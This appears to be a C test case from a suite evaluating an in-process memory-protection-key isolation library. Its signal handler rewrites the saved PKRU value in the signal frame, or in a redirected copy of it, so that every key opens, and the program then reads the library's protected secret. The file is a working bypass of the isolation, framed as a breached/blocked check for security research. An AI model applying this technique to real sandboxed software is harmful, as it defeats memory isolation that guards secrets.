/* The application's signal handler changes the PKRU saved in its
 * ucontext (to 0: every key open) and returns: the frame is restored by
 * libprotect's restorer, which the filter lets through.
 * handler_pkru: in the frame's XSAVE area;
 * handler_pkru fpregs: in a copy of it, the frame's fpregs pointed there. */
#define _GNU_SOURCE
#include "attack.h"

#include <cpuid.h>
#include <signal.h>
#include <ucontext.h>

static uint32_t *pkru_slot(ucontext_t *uc)
{
    unsigned eax, ebx, ecx, edx;
    __cpuid_count(0xd, 9, eax, ebx, ecx, edx); /* PKRU's offset in the XSAVE area */
    uint8_t *xsave = (uint8_t *)uc->uc_mcontext.fpregs;
    *(uint64_t *)(xsave + 512) |= 1ull << 9; /* XSTATE_BV: PKRU present */
    return (uint32_t *)(xsave + ebx);
}

static uint32_t app_pkru;
static int elsewhere;
static uint8_t copy[16384] __attribute__((aligned(64)));

static void open_every_key(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *uc = ctx;
    app_pkru = *pkru_slot(uc);
    if (elsewhere) {
        uint32_t size; /* sw_reserved.extended_size: the whole area with its end marker */
        memcpy(&size, (uint8_t *)uc->uc_mcontext.fpregs + 464 + 4, 4);
        memcpy(copy, uc->uc_mcontext.fpregs, size < sizeof copy ? size : sizeof copy);
        uc->uc_mcontext.fpregs = (fpregset_t)copy;
    }
    *pkru_slot(uc) = 0;
}


int main(int argc, char **argv)
{
    elsewhere = argc > 1 && strcmp(argv[1], "fpregs") == 0;
    vault_open();
    struct vault_cell *cell = vault_address(VAULT_DATA);
    struct sigaction sa = {.sa_sigaction = open_every_key, .sa_flags = SA_SIGINFO};
    sigaction(SIGUSR1, &sa, NULL);
    raise(SIGUSR1);
    uint32_t pkru, edx;
    __asm__ volatile("rdpkru" : "=a"(pkru), "=d"(edx) : "c"(0));
    if (pkru != 0)
        blocked("the handler's change of its frame's PKRU did not take");
    uint8_t stolen[VAULT_SECRET_LEN];
    memcpy(stolen, cell->secret, sizeof stolen);
    /* The application's rights back (a WRPKRU that keeps every library's
     * key as the application has it is allowed), so that the library's
     * own gate can judge what was read. */
    __asm__ volatile("wrpkru" ::"a"(app_pkru), "c"(0), "d"(0) : "memory");
    if (vault_matches(VAULT_DATA, stolen))
        breached("read the library's secret with every key opened by its handler's frame");
    blocked("what was read is not the secret");
}
